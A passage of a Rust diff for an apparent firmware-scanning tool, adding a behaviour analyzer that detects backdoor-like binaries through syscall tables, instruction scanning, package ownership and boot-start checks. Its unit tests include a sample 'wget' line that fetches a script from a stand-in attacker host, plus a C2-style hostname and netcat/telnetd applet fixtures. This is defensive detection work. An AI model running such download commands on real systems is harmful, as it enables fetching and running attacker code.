+            (4174, "listen"),
+            (4168, "accept"),
+            (4334, "accept4"),
+            (4170, "connect"),
+            (4063, "dup2"),
+            (4327, "dup3"),
+            (4011, "execve"),
+            (4066, "setsid"),
+            (4102, "socketcall"),
+        ],
+        Arch::Arm => &[
+            (281, "socket"),
+            (282, "bind"),
+            (283, "connect"),
+            (284, "listen"),
+            (285, "accept"),
+            (366, "accept4"),
+            (63, "dup2"),
+            (358, "dup3"),
+            (11, "execve"),
+            (66, "setsid"),
+        ],
+        Arch::Aarch64 => &[
+            (198, "socket"),
+            (200, "bind"),
+            (201, "listen"),
+            (202, "accept"),
+            (242, "accept4"),
+            (203, "connect"),
+            (24, "dup3"),
+            (221, "execve"),
+            (157, "setsid"),
+        ],
+        Arch::X86_64 => &[
+            (41, "socket"),
+            (42, "connect"),
+            (43, "accept"),
+            (288, "accept4"),
+            (49, "bind"),
+            (50, "listen"),
+            (33, "dup2"),
+            (292, "dup3"),
+            (59, "execve"),
+            (112, "setsid"),
+        ],
+        Arch::I386 => &[
+            (102, "socketcall"),
+            (359, "socket"),
+            (361, "bind"),
+            (362, "connect"),
+            (363, "listen"),
+            (364, "accept4"),
+            (63, "dup2"),
+            (330, "dup3"),
+            (11, "execve"),
+            (66, "setsid"),
+        ],
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Arch {
+    Mips,
+    Arm,
+    Aarch64,
+    X86_64,
+    I386,
+}
+
+/// Capabilities shown by the syscall stubs of a static binary, with evidence
+/// (`syscall 4183 (socket) at 0x400128`).
+pub fn syscall_caps(data: &[u8]) -> BTreeMap<Cap, String> {
+    let mut out = BTreeMap::new();
+    let Some((name, endian)) = netvet_unpack::classify::elf_arch(data) else {
+        return out;
+    };
+    let is64 = data.get(4) == Some(&2);
+    let arch = match (name, is64) {
+        ("mips", false) => Arch::Mips,
+        ("arm", _) => Arch::Arm,
+        ("aarch64", _) => Arch::Aarch64,
+        ("x86_64", true) => Arch::X86_64,
+        ("x86", _) | ("x86_64", false) => Arch::I386,
+        _ => return out,
+    };
+    let be = endian == "big";
+    let table = syscall_table(arch);
+    let mut budget = MAX_CODE_SCAN;
+    for (off, size, vaddr) in exec_segments(data) {
+        let start = off as usize;
+        let end = start.saturating_add(size as usize).min(data.len());
+        if start >= end {
+            continue;
+        }
+        let code = &data[start..end.min(start + budget)];
+        budget = budget.saturating_sub(code.len());
+        let seg = Segment {
+            data,
+            file_off: off,
+            vaddr,
+            be,
+        };
+        let mut found = |nr: u32, at: u64| {
+            if let Some((_, sname)) = table.iter().find(|(n, _)| *n == nr) {
+                if let Some((_, cap)) = SYSCALL_CAPS.iter().find(|(n, _)| n == sname) {
+                    out.entry(*cap)
+                        .or_insert_with(|| format!("syscall {nr} ({sname}) at {at:#x}"));
+                }
+            }
+        };
+        match arch {
+            Arch::Mips => scan_mips(code, &seg, &mut found),
+            Arch::Arm => scan_arm(code, &seg, &mut found),
+            Arch::Aarch64 => scan_aarch64(code, &seg, &mut found),
+            Arch::X86_64 => scan_x86(code, &seg, &[0x0f, 0x05], &mut found),
+            Arch::I386 => scan_x86(code, &seg, &[0xcd, 0x80], &mut found),
+        }
+        if budget == 0 {
+            break;
+        }
+    }
+    out
+}
+
+struct Segment<'a> {
+    data: &'a [u8],
+    file_off: u64,
+    vaddr: u64,
+    be: bool,
+}
+
+impl Segment<'_> {
+    fn word(&self, b: &[u8]) -> u32 {
+        let a = [b[0], b[1], b[2], b[3]];
+        if self.be {
+            u32::from_be_bytes(a)
+        } else {
+            u32::from_le_bytes(a)
+        }
+    }
+    /// The 32-bit word at virtual address `va` of this segment, if inside the file.
+    fn word_at(&self, va: u64) -> Option<u32> {
+        let off = va.checked_sub(self.vaddr)?.checked_add(self.file_off)? as usize;
+        self.data
+            .get(off..off.checked_add(4)?)
+            .map(|b| self.word(b))
+    }
+}
+
+/// MIPS: track v0 ($2) through `addiu/ori rt, zero|rs, imm`, `lui`, `move` (`or rd, rs, zero`
+/// / `addu rd, rs, zero`); a `syscall` reports v0.
+fn scan_mips(code: &[u8], seg: &Segment, found: &mut dyn FnMut(u32, u64)) {
+    let mut reg: [Option<u32>; 32] = [None; 32];
+    reg[0] = Some(0);
+    for (i, c) in code.chunks_exact(4).enumerate() {
+        let w = seg.word(c);
+        let op = w >> 26;
+        let rs = ((w >> 21) & 31) as usize;
+        let rt = ((w >> 16) & 31) as usize;
+        let rd = ((w >> 11) & 31) as usize;
+        let imm = w & 0xffff;
+        match op {
+            0 => {
+                let funct = w & 0x3f;
+                if funct == 0x0c {
+                    if let Some(v) = reg[2] {
+                        found(v, seg.vaddr + 4 * i as u64);
+                    }
+                } else if funct == 0x25 || funct == 0x21 {
+                    // or / addu
+                    reg[rd] = match (reg[rs], reg[rt]) {
+                        (Some(a), Some(b)) if funct == 0x25 => Some(a | b),
+                        (Some(a), Some(b)) => Some(a.wrapping_add(b)),
+                        _ => None,
+                    };
+                } else if rd != 0 {
+                    reg[rd] = None;
+                }
+            }
+            0x09 => reg[rt] = reg[rs].map(|v| v.wrapping_add(imm as i16 as i32 as u32)), // addiu
+            0x0d => reg[rt] = reg[rs].map(|v| v | imm),                                  // ori
+            0x0f => reg[rt] = Some(imm << 16),                                           // lui
+            // loads write rt
+            0x20..=0x27 => reg[rt] = None,
+            _ => {}
+        }
+        reg[0] = Some(0);
+    }
+}
+
+/// ARM (A32): track r0-r12 through `mov rd, #imm` (rotated), `movw`/`movt`, `ldr rd, [pc,
+/// #imm]` (literal pool), `mov rd, rm`, `add rd, rn, #imm` / `add rd, rn, rm`; `svc 0`
+/// reports r7 (EABI).
+fn scan_arm(code: &[u8], seg: &Segment, found: &mut dyn FnMut(u32, u64)) {
+    let mut reg: [Option<u32>; 16] = [None; 16];
+    for (i, c) in code.chunks_exact(4).enumerate() {
+        let w = seg.word(c);
+        let va = seg.vaddr + 4 * i as u64;
+        if w >> 28 != 0xe {
+            // conditional instructions: forget the destination conservatively
+            if (w >> 26) & 3 == 0 {
+                reg[((w >> 12) & 15) as usize] = None;
+            }
+            continue;
+        }
+        let rd = ((w >> 12) & 15) as usize;
+        let rn = ((w >> 16) & 15) as usize;
+        if w == 0xef00_0000 {
+            if let Some(v) = reg[7] {
+                found(v, va);
+            }
+        } else if w & 0x0fef_0000 == 0x03a0_0000 {
+            // mov rd, #imm (rotated)
+            let rot = ((w >> 8) & 15) * 2;
+            reg[rd] = Some((w & 0xff).rotate_right(rot));
+        } else if w & 0x0ff0_0000 == 0x0300_0000 {
+            // movw
+            reg[rd] = Some(((w >> 4) & 0xf000) | (w & 0xfff));
+        } else if w & 0x0ff0_0000 == 0x0340_0000 {
+            // movt
+            reg[rd] = reg[rd].map(|v| (v & 0xffff) | ((((w >> 4) & 0xf000) | (w & 0xfff)) << 16));
+        } else if w & 0x0f7f_0000 == 0x051f_0000 {
+            // ldr rd, [pc, #+-imm]
+            let imm = (w & 0xfff) as u64;
+            let base = va + 8;
+            let addr = if w & (1 << 23) != 0 {
+                base + imm
+            } else {
+                base.wrapping_sub(imm)
+            };
+            reg[rd] = seg.word_at(addr);
+        } else if w & 0x0fef_0ff0 == 0x01a0_0000 {
+            // mov rd, rm
+            reg[rd] = reg[(w & 15) as usize];
+        } else if w & 0x0fe0_0000 == 0x0280_0000 {
+            // add rd, rn, #imm
+            let rot = ((w >> 8) & 15) * 2;
+            reg[rd] = reg[rn].map(|v| v.wrapping_add((w & 0xff).rotate_right(rot)));
+        } else if w & 0x0fe0_0ff0 == 0x0080_0000 {
+            // add rd, rn, rm
+            reg[rd] = match (reg[rn], reg[(w & 15) as usize]) {
+                (Some(a), Some(b)) => Some(a.wrapping_add(b)),
+                _ => None,
+            };
+        } else if (w >> 26) & 3 == 0 || ((w >> 26) & 3 == 1 && w & (1 << 20) != 0) {
+            // other data processing or a load: destination unknown
+            reg[rd] = None;
+        } else if w & 0x0e10_0000 == 0x0810_0000 {
+            // ldm: registers in the list become unknown
+            for (r, slot) in reg.iter_mut().enumerate() {
+                if w & (1 << r) != 0 {
+                    *slot = None;
+                }
+            }
+        }
+    }
+}
+
+/// AArch64: track x0-x30 through `movz`, `movk`, `mov xd, xm` (`orr xd, xzr, xm`); `svc #0`
+/// reports x8.
+fn scan_aarch64(code: &[u8], seg: &Segment, found: &mut dyn FnMut(u32, u64)) {
+    let mut reg: [Option<u32>; 32] = [None; 32];
+    for (i, c) in code.chunks_exact(4).enumerate() {
+        let w = seg.word(c);
+        let rd = (w & 31) as usize;
+        if w == 0xd400_0001 {
+            if let Some(v) = reg[8] {
+                found(v, seg.vaddr + 4 * i as u64);
+            }
+        } else if w & 0x7f80_0000 == 0x5280_0000 {
+            // movz (32/64)
+            let hw = (w >> 21) & 3;
+            let imm = (w >> 5) & 0xffff;
+            reg[rd] = if hw < 2 { Some(imm << (16 * hw)) } else { None };
+        } else if w & 0x7f80_0000 == 0x7280_0000 {
+            // movk
+            let hw = (w >> 21) & 3;
+            let imm = (w >> 5) & 0xffff;
+            reg[rd] = match hw {
+                0 => reg[rd].map(|v| (v & 0xffff_0000) | imm),
+                1 => reg[rd].map(|v| (v & 0xffff) | (imm << 16)),
+                _ => reg[rd],
+            };
+        } else if w & 0x7fe0_ffe0 == 0x2a00_03e0 {
+            // mov rd, rm (orr rd, zr, rm)
+            let rm = ((w >> 16) & 31) as usize;
+            reg[rd] = if rm == 31 { Some(0) } else { reg[rm] };
+        } else if rd < 31 {
+            // anything else that may write rd: forget it (stores and branches do not
+            // write rd but forgetting is only conservative)
+            let is_store = w & 0x0a40_0000 == 0x0800_0000;
+            let is_branch = w & 0x1c00_0000 == 0x1400_0000;
+            if !is_store && !is_branch {
+                reg[rd] = None;
+            }
+        }
+    }
+}
+
+/// x86 (both modes): `mov eax, imm32` (`b8 imm32`) followed within 24 bytes by the trap
+/// (`0f 05` syscall or `cd 80` int 0x80).
+fn scan_x86(code: &[u8], seg: &Segment, trap: &[u8; 2], found: &mut dyn FnMut(u32, u64)) {
+    let mut i = 0;
+    while i + 5 <= code.len() {
+        // push imm8; pop eax/rax (`6a NN 58`), what -Os emits for small numbers
+        if code[i] == 0x6a && code[i + 2] == 0x58 {
+            let v = code[i + 1] as u32;
+            let window = &code[i + 3..code.len().min(i + 3 + 24)];
+            if let Some(t) = memmem::find(window, trap) {
+                found(v, seg.vaddr + (i + 3 + t) as u64);
+                i += 3;
+                continue;
+            }
+        }
+        if code[i] == 0xb8 {
+            let v = u32::from_le_bytes([code[i + 1], code[i + 2], code[i + 3], code[i + 4]]);
+            if v < 1024 {
+                let window = &code[i + 5..code.len().min(i + 5 + 24)];
+                if let Some(t) = memmem::find(window, trap) {
+                    found(v, seg.vaddr + (i + 5 + t) as u64);
+                    i += 5;
+                    continue;
+                }
+            }
+        }
+        i += 1;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ipv4_filter() {
+        assert_eq!(ipv4s("connect to 203.0.113.7 now"), vec!["203.0.113.7"]);
+        assert!(ipv4s("192.168.1.1").is_empty());
+        assert!(ipv4s("255.255.255.0").is_empty());
+        assert!(ipv4s("kernel 2.6.36.4").is_empty());
+        assert!(ipv4s("v1.2.3.4.5").is_empty());
+        assert_eq!(ipv4s("dns 8.8.8.8"), vec!["8.8.8.8"]);
+    }
+
+    #[test]
+    fn url_filter() {
+        assert_eq!(
+            urls("wget http://evil.example.net/x.sh -O /tmp/x"),
+            vec!["http://evil.example.net/x.sh"]
+        );
+        assert!(urls("see http://www.busybox.net/ for help").is_empty());
+        assert!(urls("http://192.168.1.1/login").is_empty());
+        assert!(urls("http://%s/%s").is_empty());
+    }
+
+    #[test]
+    fn hostname_filter() {
+        assert_eq!(
+            hostname("update.c2.example.net").as_deref(),
+            Some("update.c2.example.net")
+        );
+        assert_eq!(hostname("www.openssl.org"), None);
+        assert_eq!(hostname("libc.so.6"), None);
+        assert_eq!(hostname("Config.Net"), None);
+    }
+
+    #[test]
+    fn busybox_identity() {
+        let data = b"xxBusyBox v1.22.1 (2014-01-01)\0\0[\0[[\0ash\0nc\0telnetd\0zcat\0\0";
+        let bb = busybox(data).unwrap();
+        assert_eq!(bb.version, "1.22.1");
+        assert_eq!(bb.applets, 6);
+        assert_eq!(bb.network_applets, vec!["nc", "telnetd"]);
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// the analyzer
+
+/// The behaviour analyzer: profiles every executable once, and judges it together with the
+/// boot model (started at boot?), provenance (owned by a package?) and the web UI.
+pub struct Behaviour {
+    web: crate::web::WebChecks,
+}
+
+impl Default for Behaviour {
+    fn default() -> Self {
+        Behaviour::new()
+    }
+}
+
+impl Behaviour {
+    pub fn new() -> Behaviour {
+        Behaviour {
+            web: crate::web::WebChecks::new(),
+        }
+    }
+
+    fn analyse(&self, cx: &crate::Context, model: &crate::boot::BootModel) -> crate::Output {
+        use rayon::prelude::*;
+        let tree = cx.tree;
+        let started = model.started_programs(tree);
+        let owners = crate::provenance::ownership(tree);
+        let profiles: Vec<(usize, Profile, Option<Finding>)> = tree
+            .entries
+            .par_iter()
+            .enumerate()
+            .filter(|(_, e)| e.is_file() && netvet_unpack::classify::is_elf(&e.data))
+            .filter_map(|(i, e)| {
+                let p = profile(&e.path, &e.data);
+                let legacy = p
+                    .as_ref()
+                    .filter(|p| p.busybox.is_none())
+                    .and_then(|_| crate::suspicious::judge(&e.path, &e.data));
+                netvet_unpack::spool::release(&e.data);
+                p.map(|p| (i, p, legacy))
+            })
+            .collect();
+
+        let mut findings = Vec::new();
+        let mut behaviour_of: BTreeMap<&str, &'static str> = BTreeMap::new();
+        let mut counts = BTreeMap::<&str, u64>::new();
+        let mut busyboxes = BTreeSet::new();
+        for (i, p, legacy) in &profiles {
+            let e = &tree.entries[*i];
+            *counts.entry("executables").or_default() += 1;
+            match p.linkage {
+                Linkage::Static => *counts.entry("static").or_default() += 1,
+                Linkage::Go => *counts.entry("go").or_default() += 1,
+                Linkage::Dynamic => {}
+            }
+            if let Some(bb) = &p.busybox {
+                busyboxes.insert(format!("{} ({} applets)", bb.version, bb.applets));
+            }
+            let own = owners.get(e.root()).filter(|o| o.known());
+            let unowned =
+                own.is_some_and(|o| crate::provenance::owned(o, e.inner_path()).is_none());
+            if unowned {
+                *counts.entry("unowned_executables").or_default() += 1;
+            }
+            let boot = started.get(&e.path).map(String::as_str);
+            let verdicts = judge(p);
+            let mut has_backdoor = false;
+            for v in &verdicts {
+                let mut f = finding(&e.path, v, boot);
+                if v.kind.starts_with("backdoor.") {
+                    has_backdoor = true;
+                    behaviour_of.insert(&e.path, v.kind);
+                    if unowned {
+                        f.evidence
+                            .push_str("; no installed package lists this file");
+                    }
+                }
+                findings.push(f);
+            }
+            if !has_backdoor {
+                if let Some(f) = legacy {
+                    has_backdoor = true;
+                    findings.push(f.clone());
+                }
+            }
+            // provenance, weighted by network capability
+            if !has_backdoor && unowned && p.busybox.is_none() && p.network() {
+                let exec = p.has(Cap::Exec);
+                let mut severity = if p.listens() && exec {
+                    Severity::Medium
+                } else {
+                    Severity::Low
+                };
+                if boot.is_some() && severity == Severity::Low {
+                    severity = Severity::Medium;
+                }
+                let managers = own
+                    .map(|o| o.managers.iter().copied().collect::<Vec<_>>().join("/"))
+                    .unwrap_or_default();
+                findings.push(
+                    Finding::new(
+                        kinds::BACKDOOR_SUSPICIOUS,
+                        severity,
+                        format!(
+                            "{} is owned by no installed package and uses the network",
+                            e.file_name()
+                        ),
+                        Some(e.path.clone()),
+                        format!(
+                            "not in any of the {} {managers} package file lists; network: {}{}{}",
+                            own.map_or(0, |o| o.lists),
+                            p.ev(&[Cap::Listen, Cap::Accept, Cap::Connect, Cap::RawCapture]),
+                            if exec {
+                                format!("; executes: {}", p.ev(&[Cap::Exec]))
+                            } else {
+                                String::new()
+                            },
+                            boot.map(|b| format!("; started at boot: {b}"))
+                                .unwrap_or_default()
+                        ),
+                    )
+                    .with_key("unowned-network"),
+                );
+            }
+        }
+
+        // boot paths
+        findings.extend(crate::boot::check(model));
+        let profile_of: BTreeMap<&str, (&Profile, usize)> = profiles
+            .iter()
+            .map(|(i, p, _)| (tree.entries[*i].path.as_str(), (p, *i)))
+            .collect();
+        for (prog, where_) in &started {
+            let Some((p, i)) = profile_of.get(prog.as_str()) else {
+                continue;
+            };
+            let e = &tree.entries[*i];
+            let file = where_.split(" line ").next().unwrap_or(where_).to_string();
+            if let Some(kind) = behaviour_of.get(prog.as_str()) {
+                findings.push(
+                    Finding::new(
+                        kinds::BOOT_SUSPICIOUS,
+                        Severity::High,
+                        format!("Boot path starts {} ({kind})", e.file_name()),
+                        Some(file),
+                        format!("{where_}: starts {prog}, reported as {kind}"),
+                    )
+                    .with_key(&format!("starts:{prog}")),
+                );
+                continue;
+            }
+            let own = owners.get(e.root()).filter(|o| o.known());
+            let unowned =
+                own.is_some_and(|o| crate::provenance::owned(o, e.inner_path()).is_none());
+            if unowned && p.network() && p.busybox.is_none() {
+                findings.push(
+                    Finding::new(
+                        kinds::BOOT_SUSPICIOUS,
+                        Severity::Medium,
+                        format!("Boot path starts {}, which no package owns and which uses the network", e.file_name()),
+                        Some(file),
+                        format!(
+                            "{where_}: starts {prog}; not in any of the {} package file lists; network: {}",
+                            own.map_or(0, |o| o.lists),
+                            p.ev(&[Cap::Listen, Cap::Connect])
+                        ),
+                    )
+                    .with_key(&format!("starts-unowned:{prog}")),
+                );
+            }
+        }
+        // indicators in boot and scheduled lines
+        let mut seen = BTreeSet::new();
+        for b in model.lines() {
+            let ind = indicators(b.line.as_bytes());
+            if !ind.is_empty() && seen.insert((b.file.clone(), b.line_no)) {
+                findings.push(
+                    Finding::new(
+                        kinds::INDICATOR_NETWORK,
+                        Severity::Info,
+                        format!("Boot path names a network address ({})", ind.join(", ")),
+                        Some(b.file.clone()),
+                        format!("{} line {}: {} ({})", b.file, b.line_no, b.line, b.reason),
+                    )
+                    .with_key(&format!("boot-indicator:{}", b.line_no)),
+                );
+            }
+        }
+        // web UI
+        findings.extend(crate::web::check_tree(tree, &self.web));
+
+        let package_lists: usize = owners.values().map(|o| o.lists).sum();
+        crate::Output {
+            findings,
+            summaries: vec![(
+                "behaviour".into(),
+                serde_json::json!({
+                    "executables": counts.get("executables").copied().unwrap_or(0),
+                    "static": counts.get("static").copied().unwrap_or(0),
+                    "go": counts.get("go").copied().unwrap_or(0),
+                    "busybox_builds": busyboxes.into_iter().collect::<Vec<_>>(),
+                    "package_lists": package_lists,
+                    "unowned_executables": counts.get("unowned_executables").copied().unwrap_or(0),
+                    "started_at_boot": started.len(),
+                }),
+            )],
+        }
+    }
+}
+
+impl crate::Analyzer for Behaviour {
+    fn name(&self) -> &'static str {
+        "behaviour"
+    }
+
+    fn run(&self, cx: &crate::Context) -> crate::Output {
+        let model = crate::boot::BootModel::build(cx.tree);
+        self.analyse(cx, &model)
+    }
+
+    fn run_shared(&self, cx: &crate::Context, shared: &crate::Shared) -> crate::Output {
+        self.analyse(cx, &shared.boot)
+    }
+}
